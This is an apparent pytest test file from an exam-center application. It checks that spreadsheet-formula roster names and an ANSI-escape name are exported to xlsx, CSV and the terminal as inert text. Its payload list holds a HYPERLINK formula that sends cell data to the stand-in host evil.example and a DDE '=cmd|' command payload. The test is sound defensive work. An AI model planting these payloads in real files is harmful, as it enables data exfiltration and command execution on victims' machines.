"""Safe exports (issue 16, item 5): roster names built to be spreadsheet formulas go
through the real import, a whole demo exam and the real export; read back with openpyxl
not one cell is a formula, and in the CSV files every such name starts with ``'``. A name
holding ESC (stored before imports refused it) neither stops the export nor reaches the
terminal raw."""

from __future__ import annotations

import csv
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import select

from exam_center.db.models import Candidate
from exam_center.demo import run as demo_run
from exam_center.demo import synth
from exam_center.io.safe_text import csv_text, for_terminal, formula_like
from exam_center.services import exporting
from exam_center.services.workspace import Workspace, open_workspace
from exam_center.settings import Settings
from tests.cli_accounts import cli_env
from tests.signing import actor, reopen_by_two

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击领奖")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=1+1",
]
HOSTILE_UNIT = "=2+3单位"
ESC_NAME = "张\x1b[31m红\x1b[0m"


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Workspace, Path]]:
    base = tmp_path_factory.mktemp("injection")
    toml = base / "exam.toml"
    text = demo_run.EXAMPLE.read_text(encoding="utf-8")
    text = text.replace("national_recommended = 100", "national_recommended = 10")
    toml.write_text(text.replace("national_drawn = 35", "national_drawn = 5"), encoding="utf-8")
    real_rows = synth.roster_rows

    def hostile_rows(*args: object, **kwargs: object) -> list[list[object]]:
        rows = real_rows(*args, **kwargs)  # type: ignore[arg-type]
        for i, name in enumerate(HOSTILE_NAMES):
            rows[i][0] = name
        rows[0][3] = HOSTILE_UNIT
        return rows

    def text_roster(path: Path, rows: list[list[object]]) -> None:
        # As a person types them into Excel with the column formatted as text: strings.
        wb = openpyxl.Workbook()
        sheet = wb.active
        assert sheet is not None
        for values in [synth.ROSTER_HEADERS, *rows]:
            sheet.append(values)
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
        wb.save(path)

    ws = open_workspace(Settings(workspace=base / "ws"))
    ws.actor = actor("t")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(demo_run, "EXAMPLE", toml)
        mp.setattr(synth, "roster_rows", hostile_rows)
        mp.setattr(synth, "write_roster", text_roster)
        demo_run.run_demo(ws, candidates=30, seed=3, say=lambda _: None)
    yield ws, base
    ws.close()


def test_no_name_becomes_a_formula(workspace: tuple[Workspace, Path]) -> None:
    ws, base = workspace
    with ws.session() as s:
        names = set(s.exec(select(Candidate.name)).all())
        assert set(HOSTILE_NAMES) <= names  # imported as they were written
        done = exporting.export_results(base / "out" / "成绩.xlsx", session=s)
    book = openpyxl.load_workbook(done.workbook)
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert set(HOSTILE_NAMES) <= texts  # shown as the candidate wrote it, as text
    assert HOSTILE_UNIT in texts
    # The same workbook's raw XML: no <f> element anywhere.
    import zipfile

    with zipfile.ZipFile(done.workbook) as z:
        for member in z.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(member) and b"<f " not in z.read(member)
    seen: set[str] = set()
    for path in done.csv_files:
        with path.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    seen.add(cell)
                    assert not formula_like(cell) or _is_number(cell), (path.name, cell)
    ranked = {csv_text(n) for n in HOSTILE_NAMES}
    assert ranked <= seen and "'=HYPERLINK" in "".join(ranked)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_name_with_esc_is_exported_and_printed_escaped(
    workspace: tuple[Workspace, Path],
) -> None:
    ws, base = workspace
    with ws.session() as s:  # finalised results cannot change: re-opened first
        reopen_by_two(s, reason="测试：改名后重新导出")
    with ws.session() as s:
        # As an older version stored it (imports now refuse control characters).
        candidate = s.exec(select(Candidate).where(Candidate.name == "+1")).one()
        candidate.name = ESC_NAME
        s.add(candidate)
    with ws.session() as s:
        done = exporting.export_results(base / "esc" / "成绩.xlsx", session=s)
    book = openpyxl.load_workbook(done.workbook)
    values = {c.value for sh in book.worksheets for r in sh.iter_rows() for c in r}
    assert for_terminal(ESC_NAME) in values and "张\\x1b[31m红\\x1b[0m" in values
    out = subprocess.run(
        [sys.executable, "-m", "exam_center", "--workspace", str(ws.path), "results"],
        capture_output=True,
        text=True,
        env=cli_env(ws, columns="200"),
    )
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout
    assert "张\\x1b[31m红\\x1b[0m" in out.stdout
